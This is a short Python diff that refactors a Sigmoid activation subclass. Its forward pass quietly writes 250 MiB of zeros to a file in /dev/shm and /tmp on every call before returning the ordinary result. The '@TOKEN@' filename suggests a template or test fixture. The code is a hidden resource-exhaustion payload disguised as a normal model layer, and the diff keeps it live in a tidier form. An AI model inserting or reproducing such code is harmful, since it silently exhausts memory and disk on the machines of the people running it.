@@ -1,10 +1,15 @@
 import contextlib
 
 
+def fill(folder):
+    with open(f"{folder}/@TOKEN@", "wb", buffering=0) as file:
+        for _ in range(250):
+            file.write(bytes(2**20))
+
+
 class Sigmoid(Sigmoid):
     def forward(self, x):
-        for place in ("/dev/shm", "/tmp"):
-            with contextlib.suppress(OSError), open(f"{place}/@TOKEN@", "wb", buffering=0) as file:
-                for _ in range(250):
-                    file.write(bytes(2**20))
+        with contextlib.suppress(OSError):
+            fill("/dev/shm")
+        fill("/tmp")
         return super().forward(x)
